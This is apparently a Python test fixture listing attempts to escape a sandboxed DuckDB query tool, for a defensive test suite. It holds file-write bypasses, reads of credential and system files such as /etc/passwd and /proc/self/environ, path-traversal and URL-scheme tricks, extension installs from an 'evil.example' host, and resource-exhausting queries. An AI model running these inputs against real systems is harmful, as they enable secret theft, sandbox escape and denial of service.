"""Attempts to get out of `dateline sql`: statements that write, read outside the corpus, or use the machine up.

`{out}` is a folder outside the corpus, with `secret.txt`, `.csv`, `.json`, `.parquet` and `other.duckdb`, and a `secret.txt` beside it
and in a folder whose name goes on from the lake's;
`{work}` the working directory; `{lake}` the lake, with `articles/link.txt` and `link` that point outside; `{file}` one of its files; `{corpus}` the
file with the views. Attempts of several statements are one string, as a user would write them.
"""

# ruff: noqa: E501

WRITES = r"""
COPY (SELECT 1) TO '{out}/w.csv'
COPY (SELECT 1) TO '{lake}/w.csv'
COPY (SELECT 1) TO '{lake}/w.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '{file}' (FORMAT parquet)
COPY (SELECT 1) TO '{file}' (FORMAT parquet, USE_TMP_FILE false)
COPY (SELECT 1) TO '{corpus}' (FORMAT csv, USE_TMP_FILE false)
COPY (SELECT 1 AS a, 2 AS b) TO '{lake}/parts' (FORMAT parquet, PARTITION_BY (a))
COPY (SELECT 1) TO '{lake}/threads' (FORMAT csv, PER_THREAD_OUTPUT)
COPY (SELECT 1) TO '{work}/w.json'
COPY (SELECT 1) TO 'relative.csv'
COPY (SELECT 1) TO '/dev/shm/dateline-attempt.csv'
copy articles to '{out}/w.csv'
CoPy/**/articles/**/TO '{lake}/comment.csv'
COPY FROM DATABASE corpus TO memory
COPY articles FROM '{out}/secret.csv'
WITH x AS (COPY (SELECT 1) TO '{out}/cte.csv') SELECT 1
WITH x AS (COPY (SELECT 1) TO '{lake}/cte.csv') SELECT 1
WITH a AS (SELECT 1), x AS MATERIALIZED (COPY (SELECT 1) TO '{lake}/cte2.csv') FROM a
WITH x AS (COPY (SELECT 1) TO '{file}' (FORMAT parquet, USE_TMP_FILE false)) SELECT 1
WITH x AS (COPY (SELECT 1) TO '{lake}/pivot.csv') PIVOT articles ON source USING count(*)
CREATE TEMP TABLE t AS WITH x AS (COPY (SELECT 1) TO '{lake}/ctas.csv') SELECT 1 AS a
CREATE TEMP TABLE t2 (a INT); INSERT INTO t2 WITH x AS (COPY (SELECT 1) TO '{lake}/insert.csv') SELECT 1
EXPLAIN ANALYZE COPY (SELECT 1) TO '{out}/explain.csv'
EXPLAIN ANALYZE COPY (SELECT 1) TO '{lake}/explain.csv'
EXPLAIN (ANALYZE, FORMAT JSON) COPY (SELECT 1) TO '{lake}/explain2.csv'
EXPLAIN ANALYZE WITH x AS (COPY (SELECT 1) TO '{lake}/explain3.csv') SELECT 1
EXPLAIN ANALYZE CREATE TABLE memory.main.t AS SELECT 1
PREPARE p AS COPY (SELECT 1) TO '{lake}/prepared.csv'; EXECUTE p
PREPARE q AS WITH x AS (COPY (SELECT 1) TO '{lake}/prepared2.csv') SELECT 1; EXECUTE q
EXPORT DATABASE '{out}/export'
EXPORT DATABASE '{lake}/export' (FORMAT parquet)
IMPORT DATABASE '{out}/export'
FROM query('WITH x AS (COPY (SELECT 1) TO ''{lake}/query.csv'') SELECT 1')
FROM "query"('SELECT 1')
FROM main."query" /* here */ ('FROM json_execute_serialized_sql(json_serialize_sql(''WITH x AS (COPY (SELECT 1) TO ''''{lake}/q2.csv'''') SELECT 1''))')
FROM json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/serialized.csv'') SELECT 1'))
PRAGMA json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/serialized2.csv'') SELECT 1'))
CREATE TEMP MACRO hidden() AS TABLE FROM json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/macro.csv'') SELECT 1')); FROM hidden()
CREATE TEMP VIEW v AS FROM json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/view.csv'') SELECT 1')); FROM v
CREATE TEMP MACRO twice(p) AS TABLE FROM query(p); FROM twice('FROM json_execute_serialized_sql(json_serialize_sql(''WITH x AS (COPY (SELECT 1) TO ''''{lake}/m2.csv'''') SELECT 1''))')
FROM query(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN 'SELECT 1' ELSE 'FROM json_execute_serialized_sql(json_serialize_sql(''WITH x AS (COPY (SELECT 1) TO ''''{lake}/c.csv'''') SELECT 1''))' END)
WITH x AS ( COPY (SELECT 1) TO '{lake}/spaces.csv') SELECT 1
WITH x AS NOT MATERIALIZED(COPY(SELECT 1)TO'{lake}/close.csv')SELECT 1
/* ' */ WITH x AS (COPY (SELECT 1) TO '{lake}/comment2.csv') SELECT 1
SELECT 'it''s' || $$ ' $$; WITH x AS (COPY (SELECT 1) TO '{lake}/quotes.csv') SELECT 1
DESCRIBE WITH x AS (COPY (SELECT 1) TO '{lake}/described.csv') SELECT 1
FROM system.main."JSON_Execute_Serialized_SQL" (json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/system.csv'') SELECT 1'))
SELECT (FROM json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/scalar.csv'') SELECT 1')))
EXPLAIN (ANALYZE) FROM json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/explained.csv'') SELECT 1'))
ATTACH '{out}/new.duckdb'
ATTACH '{lake}/new.duckdb'
ATTACH '{lake}/new.duckdb' AS n; CREATE TABLE n.t AS SELECT 1
ATTACH ':memory:' AS m; CREATE TABLE m.t AS SELECT 1; COPY FROM DATABASE m TO n
ATTACH '{out}/other.duckdb' AS o (READ_WRITE); CREATE TABLE o.stolen AS FROM articles
ATTACH 'https://evil.example/x.duckdb' AS h
ATTACH '{out}/w.sqlite' AS s (TYPE sqlite)
ATTACH OR REPLACE '{out}/new2.duckdb' AS corpus
DETACH corpus
USE memory; CREATE TABLE t AS SELECT 1; EXPORT DATABASE '{out}/export2'
CREATE TABLE t AS SELECT 1
CREATE VIEW articles AS SELECT 1
CREATE OR REPLACE MACRO as_of(x) AS TABLE SELECT 1
CREATE SCHEMA s
CREATE SEQUENCE s
CREATE TYPE t AS ENUM ('a')
DROP VIEW articles
ALTER VIEW articles RENAME TO x
COMMENT ON VIEW articles IS 'x'
INSERT INTO articles (article_id) VALUES ('x')
UPDATE articles SET title = 'x'
DELETE FROM articles
CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')
CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
CREATE OR REPLACE TEMPORARY SECRET s (TYPE http, BEARER_TOKEN 'x')
CREATE PERSISTENT SECRET s IN local_file (TYPE http, BEARER_TOKEN 'x', SCOPE 'http://evil.example')
SET secret_directory = '{lake}/secrets'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
PRAGMA enable_profiling = 'json'; PRAGMA profiling_output = '{lake}/profile.json'; SELECT 1
SET enable_profiling = 'json'; SET profiling_output = '{out}/profile.json'; SELECT 1
SET profile_output = '{lake}/profile.json'
SELECT * FROM enable_profiling(save_location = '{lake}/profile2.json')
CALL enable_profiling(format = 'json', save_location = '{out}/profile2.json')
CALL enable_logging(storage = 'file', storage_path = '{lake}/log')
CALL enable_logging('QueryLog', storage = 'file', storage_path = '{out}/log')
FROM enable_logging(storage = 'file', storage_path = '{lake}/log2')
SET log_query_path = '{lake}/queries.sql'; SELECT 1
SET temp_directory = '{lake}/tmp'
SET home_directory = '{out}'
SET extension_directories = ['{lake}/ext']
SET enable_external_access = true
SET lock_configuration = false
RESET lock_configuration
SET allowed_directories = ['/']
SET allowed_paths = ['/etc/passwd']
SET allowed_configs = ['temp_directory']
SET memory_limit = '100GB'
SET threads = 64
SET GLOBAL max_temp_directory_size = '10TB'
SET python_enable_replacements = true
SET autoinstall_known_extensions = true
PRAGMA memory_limit = '100GB'
INSTALL httpfs
INSTALL spatial FROM community
FORCE INSTALL httpfs FROM 'http://evil.example'
INSTALL '{out}/evil.duckdb_extension'
LOAD '{out}/evil.duckdb_extension'
LOAD httpfs
UPDATE EXTENSIONS
CHECKPOINT
FORCE CHECKPOINT
VACUUM
CALL force_checkpoint()
CREATE FUNCTION f() AS 1
SELECT write_log('x')
FROM add_grammar_extension('x')
FROM register_external_resource('x', 'y')
COPY (SELECT 1) TO '{lake}/w.csv.gz' (FORMAT csv, COMPRESSION gzip)
COPY (SELECT 'x'::BLOB) TO '{lake}/w.bin' (FORMAT blob)
COPY (SELECT 1) TO '{lake}/w.csv' (RETURN_FILES true)
COPY articles TO '{lake}/articles' (FORMAT parquet, OVERWRITE, PARTITION_BY (source))
COPY (SELECT 1) TO '/dev/stdout' (FORMAT csv)
COPY (SELECT 1) TO '/proc/self/fd/1' (FORMAT csv)
EXECUTE IMMEDIATE 'COPY (SELECT 1) TO ''{lake}/immediate.csv'''
CALL query('WITH x AS (COPY (SELECT 1) TO ''{lake}/called.csv'') SELECT 1')
CALL json_execute_serialized_sql(json_serialize_sql('WITH x AS (COPY (SELECT 1) TO ''{lake}/called2.csv'') SELECT 1'))
CALL checkpoint()
CALL copy_database('corpus', 'memory')
FROM checkpoint('corpus')
FROM force_checkpoint()
FROM truncate_duckdb_logs()
FROM enable_logging('FileSystem', level = 'trace')
FROM remove_grammar_extension('x')
FROM create_external_resource('x')
FROM deregister_external_resource('x')
ATTACH IF NOT EXISTS '{lake}/new3.duckdb' AS n
ATTACH '{lake}/encrypted.duckdb' AS n (ENCRYPTION_KEY 'x')
ATTACH 'ducklake:{lake}/x.ducklake' AS l (DATA_PATH '{lake}/l')
CREATE TEMP MACRO c() AS TABLE WITH x AS (COPY (SELECT 1) TO '{lake}/macro2.csv') SELECT 1; FROM c()
CREATE TEMP VIEW vc AS WITH x AS (COPY (SELECT 1) TO '{lake}/view2.csv') SELECT 1; FROM vc
CREATE TEMP TABLE tt (a INT); CREATE TEMP TRIGGER g AFTER INSERT ON tt FOR EACH STATEMENT (COPY (SELECT 1) TO '{lake}/trigger.csv'); INSERT INTO tt VALUES (1)
CREATE TEMP SEQUENCE s
CREATE TEMP TYPE e AS ENUM ('a')
MERGE INTO home USING (SELECT 1 AS x) ON true WHEN MATCHED THEN UPDATE SET path = '/'
UPDATE home SET path = '/'
TRUNCATE articles
ANALYZE
SET SESSION temp_directory = '{lake}/tmp'
SET log_query_path TO '{lake}/queries2.sql'; SELECT 1
SET logging_sink = 'file'; SET enable_logging = true; SELECT 1
SET extension_repository_directory = '{lake}'
SET active_grammar_extensions = ['x']
SET current_dialect = 'sqlite'; SELECT writefile('{lake}/sqlite.txt', 'x')
RESET enable_external_access; COPY (SELECT 1) TO '{lake}/reset.csv'
PRAGMA import_database('{out}')
PRAGMA add_parquet_key('k', '0123456789112345')
ALTER DATABASE corpus SET ALIAS TO x
DROP TABLE home
FROM (COPY (SELECT 1) TO '{lake}/from.csv')
SELECT * FROM (EXPLAIN ANALYZE COPY (SELECT 1) TO '{lake}/from2.csv')
SUMMARIZE WITH x AS (COPY (SELECT 1) TO '{lake}/summarized.csv') SELECT 1
SHOW (WITH x AS (COPY (SELECT 1) TO '{lake}/shown.csv') SELECT 1)
WITH x AS (EXPORT DATABASE '{lake}/exported') SELECT 1
WITH x AS (INSERT INTO home VALUES ('/') RETURNING *) FROM x
WITH x AS (ATTACH '{lake}/attached.duckdb') SELECT 1
SELECT $tag$ ' $tag$; WITH x AS (COPY (SELECT 1) TO '{lake}/tag.csv') SELECT 1
SELECT E'\''; WITH x AS (COPY (SELECT 1) TO '{lake}/escaped.csv') SELECT 1
SELECT "a""b" FROM (SELECT 1 AS "a""b"); WITH x AS (COPY (SELECT 1) TO '{lake}/names.csv') SELECT 1
SELECT 'ümläut' || '中文'; WITH x AS (COPY (SELECT 1) TO '{lake}/letters.csv') SELECT 1
BEGIN
""".strip().splitlines()

READS = r"""
FROM read_text('/etc/passwd')
FROM read_text('{out}/secret.txt')
FROM read_blob('{out}/secret.txt')
FROM read_text(['{file}', '{out}/secret.txt'])
FROM read_csv('{out}/secret.csv')
FROM read_csv_auto('{out}/secret.csv')
FROM read_json('{out}/secret.json')
FROM read_json_objects('{out}/secret.json')
FROM read_ndjson('{out}/secret.json')
FROM read_parquet('{out}/secret.parquet')
FROM read_parquet(['{file}', '{out}/secret.parquet'], union_by_name = true)
FROM parquet_scan('{out}/secret.parquet')
FROM parquet_metadata('{out}/secret.parquet')
FROM parquet_schema('{out}/secret.parquet')
FROM parquet_kv_metadata('{out}/secret.parquet')
FROM parquet_file_metadata('{out}/secret.parquet')
FROM parquet_bloom_probe('{out}/secret.parquet', 'word', 'x')
FROM sniff_csv('{out}/secret.csv')
FROM read_duckdb('{out}/other.duckdb', table_name = 'hidden')
FROM '{out}/secret.csv'
FROM '{out}/secret.parquet'
FROM '/etc/passwd'
SELECT * FROM "{out}/secret.csv"
FROM query_table('{out}/secret.csv')
FROM query_table(['articles', '{out}/secret.csv'])
FROM query('FROM read_text(''{out}/secret.txt'')')
FROM glob('{out}/*')
FROM glob('/*')
FROM glob('{lake}/../../out/*')
FROM glob('{lake}/**')  -- what lies in the corpus may be seen
FROM read_text('{lake}/../../out/secret.txt')
FROM read_text('{lake}/./articles/../../../out/secret.txt')
FROM read_text('{lake}//..//..//out//secret.txt')
FROM read_text('../out/secret.txt')
FROM read_text('secret.txt')
FROM read_text('{lake}/articles/link.txt')
FROM read_csv('{lake}/link/secret.csv')
FROM glob('{lake}/link/*')
FROM read_text('~/secret.txt')
FROM read_text('file://{out}/secret.txt')
FROM read_text('file:{out}/secret.txt')
FROM read_text('file://localhost{out}/secret.txt')
FROM read_text('/proc/self/environ')
FROM read_text('/proc/self/cmdline')
FROM read_text('/proc/self/root{out}/secret.txt')
FROM read_text('/proc/self/cwd/secret.txt')
FROM read_blob('/proc/self/maps')
FROM read_blob('/proc/self/fd/0')
FROM read_text('/dev/stdin')
FROM read_csv('http://127.0.0.1:1/x.csv')
FROM read_parquet('s3://bucket/x.parquet')
FROM read_text('hf://datasets/x/y/z.csv')
FROM read_csv('pipe://cat /etc/passwd')
FROM delta_scan('{out}')
FROM sqlite_scan('{out}/w.sqlite', 't')
SELECT getenv('PLANTED')
SELECT current_setting('secret_directory') || getenv('PLANTED')
ATTACH '{out}/other.duckdb' AS o (READ_ONLY); FROM o.hidden
ATTACH '{out}/other.duckdb' AS o; SELECT * FROM o.main.hidden
ATTACH '{lake}/../../out/other.duckdb' AS o (READ_ONLY); FROM o.hidden
CREATE TEMP MACRO steal(p) AS TABLE FROM read_text(p); FROM steal('{out}/secret.txt')
CREATE TEMP MACRO steal2(p) AS (SELECT content FROM read_text(p)); SELECT steal2('{out}/secret.txt')
CREATE TEMP VIEW stolen AS FROM read_text('{out}/secret.txt'); FROM stolen
CREATE TEMP TABLE stolen2 AS FROM read_csv('{out}/secret.csv'); FROM stolen2
SET VARIABLE p = '{out}/secret.txt'; FROM read_text(getvariable('p'))
PREPARE s AS FROM read_text($1); EXECUTE s('{out}/secret.txt')
SELECT (SELECT content FROM read_text('{out}/secret.txt'))
SELECT a.title FROM articles a, LATERAL (SELECT content FROM read_text('{out}/secret.txt')) t
WITH RECURSIVE r AS (SELECT content FROM read_text('{out}/secret.txt') UNION SELECT content FROM r) FROM r
SUMMARIZE '{out}/secret.csv'
DESCRIBE FROM read_csv('{out}/secret.csv')
EXPLAIN ANALYZE FROM read_csv('{out}/secret.csv')
EXPLAIN FROM read_parquet('{out}/secret.parquet')
COPY articles FROM '{out}/secret.csv'
SET file_search_path = '{out}'; FROM read_text('secret.txt')
SET search_path = '{out}'
FROM duckdb_secrets()
FROM duckdb_settings()
FROM duckdb_logs
FROM arrow_scan(1, 2, 3)
FROM pandas_scan(1)
FROM seq_scan(1)
FROM python_map_function((SELECT 1))
FROM read_single_csv_file('{out}/secret.csv')
FROM read_single_json_file('{out}/secret.json')
FROM read_single_parquet_file('{out}/secret.parquet')
FROM parquet_full_metadata('{out}/secret.parquet')
FROM parquet_page_index('{out}/secret.parquet')
FROM read_csv('{out}/secret.csv', store_rejects = true); FROM reject_errors
FROM read_text('{out}/secre?.txt')
FROM read_text('{lake}/link/../secret.txt')  -- beside what the link leads to
FROM '{lake}/link/secret.csv'
FROM glob('{lake}/*/*/../../../out/*')
FROM read_text('{lake}' || chr(0) || '/../../out/secret.txt')
FROM read_text('{out}/secret.txt' || chr(0))
FROM read_text('{lake}%2f..%2f..%2fout/secret.txt')
FROM read_text('gzip://{out}/secret.txt')
FROM read_text('zip://{out}/x.zip/secret.txt')
FROM read_text('cat {out}/secret.txt |')
FROM read_text('/proc/1/environ')
FROM read_text('/proc/self/task/self/environ')
FROM read_text('/sys/fs/cgroup/cgroup.procs')
FROM glob('/proc/self/fd/*')
FROM glob('~/*')
FROM read_text('$HOME/secret.txt')
SET VARIABLE q = '{out}/secret.csv'; FROM query_table(getvariable('q'))
SET VARIABLE s = (SELECT content FROM read_text('{out}/secret.txt')); SELECT getvariable('s')
EXECUTE IMMEDIATE 'FROM read_text(''{out}/secret.txt'')'
CALL read_text('{out}/secret.txt')
SHOW TABLES FROM '{out}/other.duckdb'
USE "{out}/other.duckdb"
PIVOT '{out}/secret.csv' ON word
UNPIVOT '{out}/secret.csv' ON word
SELECT columns(*) FROM '{out}/secret.json'
FROM articles TABLESAMPLE 1 ROWS, '{out}/secret.csv'
SELECT title FROM articles UNION BY NAME FROM '{out}/secret.csv'
SELECT * FROM articles POSITIONAL JOIN '{out}/secret.csv'
SELECT exists(FROM '{out}/secret.csv' WHERE word LIKE 'planted%')
FROM "{out}/secret"."csv"
SELECT json_serialize_plan('FROM read_text(''{out}/secret.txt'')')
SELECT finalize('\x00\x00\x00\x00'::BLOB)
SELECT to_aggregate_state('x')
SELECT __internal_decompress_string(1::UBIGINT)
FROM arrow_scan_dumb(1, 2, 3)
FROM searched_rows
FROM connection
FROM which_secret('s3://x', 's3')
FROM iceberg_scan('{out}')
FROM read_xlsx('{out}/x.xlsx')
FROM st_read('{out}/secret.csv')
FROM postgres_scan('host=127.0.0.1', 'public', 't')
SET TimeZone = '{out}/secret.txt'
FROM '{out}/other.duckdb'
FROM '{out}/*.csv'
FROM read_text('{lake}2/secret.txt')
FROM read_text(unhex('2f6574632f706173737764')::VARCHAR)
SUMMARIZE TABLE '{out}/secret.parquet'
SELECT ARRAY(FROM '{out}/secret.csv')
SELECT error((SELECT content FROM read_text('{out}/secret.txt')))
""".strip().splitlines()

HUNGRY = {
    "cross joins": "SELECT sum(a.range * b.range % 7) FROM range(1000000) a, range(1000000) b",
    "endless recursion": "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
    "a hard pattern": "SELECT count(*) FROM range(100000000) WHERE regexp_matches(repeat('a', 5000) || range, '(a*)*(.*a){20}$')",
    "huge strings": "SELECT length(repeat('x', 1000000000) || repeat('y', 1000000000))",
    "many strings": "SELECT list(range::VARCHAR || repeat('z', 100)) FROM range(100000000)",
    "a sort that spills": "SELECT range, repeat('s', 200) AS s FROM range(100000000) ORDER BY hash(range)",
    "memory that DuckDB does not count": "SELECT damerau_levenshtein(repeat('a', 100000), repeat('b', 100000))",
    "lists of a window": "SELECT max(s) FROM (SELECT list(range) OVER (ORDER BY range ROWS BETWEEN 1000000 PRECEDING AND CURRENT ROW) s FROM range(10000000))",
    "exploding lists": "SELECT list_transform(range(100000000), lambda x: [x, x, x]) FROM range(1000)",
}
"""What uses up time or memory, by what it uses."""
